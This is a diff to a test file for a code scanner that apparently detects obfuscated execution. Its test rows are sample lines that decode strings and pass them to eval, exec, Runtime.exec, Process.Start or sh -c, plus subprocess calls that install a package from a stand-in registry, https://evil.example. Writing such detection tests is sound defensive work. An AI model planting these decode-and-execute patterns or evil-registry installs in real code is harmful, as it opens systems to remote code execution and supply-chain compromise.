@@ -36,22 +36,22 @@ const DECODER_SPELLINGS: FindingRow[] = [
 // decode_www_form_component, Java's URLDecoder and MIME/URL base64 decoders, C#'s Uri/WebUtility unescaping, Rust's
 // base64 Engine::decode, ES2025's Uint8Array.fromBase64, Python's a85decode and unicode_escape.
 const OTHER_LANGUAGES_DECODERS: FindingRow[] = [
-  ['src/t.php', '<?php eval(urldecode($s));'],
-  ['src/t.php', '<?php eval(rawurldecode($s));'],
-  ['src/t.php', '<?php eval(html_entity_decode($s));'],
-  ['src/t.php', '<?php eval(quoted_printable_decode($s));'],
+  ['src/t.php', '<?php eval(urldecode($s));', 'closed'],
+  ['src/t.php', '<?php eval(rawurldecode($s));', 'closed'],
+  ['src/t.php', '<?php eval(html_entity_decode($s));', 'closed'],
+  ['src/t.php', '<?php eval(quoted_printable_decode($s));', 'closed'],
   ['src/t.php', "<?php $f = 'base64_decode'; eval($f($s));"],
-  ['src/t.pl', 'eval(uri_unescape($s));'],
-  ['src/t.rb', 'eval(URI.decode_www_form_component(s))'],
-  ['src/t.java', 'Runtime.getRuntime().exec(URLDecoder.decode(s, "UTF-8"));'],
-  ['src/t.java', 'Runtime.getRuntime().exec(new String(Base64.getMimeDecoder().decode(s)));'],
-  ['src/t.java', 'Runtime.getRuntime().exec(new String(Base64.getUrlDecoder().decode(s)));'],
-  ['src/t.cs', 'Process.Start("cmd", "/c " + Uri.UnescapeDataString(s));'],
-  ['src/t.cs', 'Process.Start("cmd", "/c " + WebUtility.UrlDecode(s));'],
+  ['src/t.pl', 'eval(uri_unescape($s));', 'closed'],
+  ['src/t.rb', 'eval(URI.decode_www_form_component(s))', 'closed'],
+  ['src/t.java', 'Runtime.getRuntime().exec(URLDecoder.decode(s, "UTF-8"));', 'closed'],
+  ['src/t.java', 'Runtime.getRuntime().exec(new String(Base64.getMimeDecoder().decode(s)));', 'closed'],
+  ['src/t.java', 'Runtime.getRuntime().exec(new String(Base64.getUrlDecoder().decode(s)));', 'closed'],
+  ['src/t.cs', 'Process.Start("cmd", "/c " + Uri.UnescapeDataString(s));', 'closed'],
+  ['src/t.cs', 'Process.Start("cmd", "/c " + WebUtility.UrlDecode(s));', 'closed'],
   ['src/t.rs', 'let b = STANDARD.decode(s).unwrap();\nCommand::new("sh").arg("-c").arg(String::from_utf8(b).unwrap()).status()?;'],
-  ['src/t.js', 'eval(new TextDecoder().decode(Uint8Array.fromBase64(s)))'],
+  ['src/t.js', 'eval(new TextDecoder().decode(Uint8Array.fromBase64(s)))', 'closed'],
   ['src/t.py', 'import base64\nexec(base64.a85decode(s))', 'closed'],
-  ['src/t.py', "exec(s.encode().decode('unicode_escape'))"],
+  ['src/t.py', "exec(s.encode().decode('unicode_escape'))", 'closed'],
 ];
 
 // A name given a decoder's output where the reading of names misses it: the value opened on the next line, a
@@ -100,8 +100,8 @@ const MODULE_HOST: FindingRow[] = [
 const COMPUTED_PROGRAM: FindingRow[] = [
   ['src/check.py', "import subprocess\nsubprocess.run([tool, '--registry', 'https://evil.example', 'install', 'evil'])", 'closed'],
   ['src/check.py', "import subprocess\nsubprocess.run([tool, '--loglevel', 'silent', 'install', 'evil'])", 'closed'],
-  ['src/check.py', "import subprocess\nsubprocess.run([tool, f'install', 'evil'])"],
-  ['src/check.py', "import subprocess\nsubprocess.run([tool, r'install', 'evil'])"],
+  ['src/check.py', "import subprocess\nsubprocess.run([tool, f'install', 'evil'])", 'closed'],
+  ['src/check.py', "import subprocess\nsubprocess.run([tool, r'install', 'evil'])", 'closed'],
   ['src/check.py', "import subprocess\nsubprocess.run([tool, *['install', 'evil']])"],
   ['src/check.py', "import subprocess\nargs = ['--yes', 'install', 'evil']\nsubprocess.run([tool, *args])"],
   ['src/check.py', "import subprocess\nsubprocess.run([tool] + ['install', 'evil'])"],
@@ -264,6 +264,9 @@ describeAccepted('attack-52: ordinary code near the readings, accepted', [
   ['src/main.go', '//go:generate stringer -type=Color'],
   ['docs/guide.md', "```python\n>>> import os\n>>> os.environ.get('PIP_INDEX_URL')\n```"],
   ['src/check.py', "import subprocess\nsubprocess.run([cmake, '--install', 'build'])"],
+  ['src/search.php', "<?php\n$q = urldecode($_GET['q']);\necho htmlspecialchars($q);"],
+  ['src/Q.java', 'String q = URLDecoder.decode(raw, "UTF-8");\nlog.info(q);'],
+  ['src/check.py', "import marshal\ndata = marshal.dumps(obj)"],
 ]);
 
 // Beside the closed false refusals, what their readings must still refuse: a decoded value given to an environment
@@ -308,5 +311,6 @@ describe('attack-52: the new readings in linear time', () => {
     ['src/check.js', 'PowerShell given dashed options, never encoded', 'pwsh \u2013NoProfile \u2014e"x \u2015ec '],
     ['docs/guide.md', 'tested code naming configuration files, writing nothing', ">>> writexxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx '.npmrc' "],
     ['src/check.js', 'PowerShell named apart from its call', "ps = 'pwsh'\nspawnSync(ps, ['-e', "],
+    ['src/check.py', 'codecs named, never given to a sink', ".decode('unicode_escape' .decode(' f'instal r' "],
   ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
 });
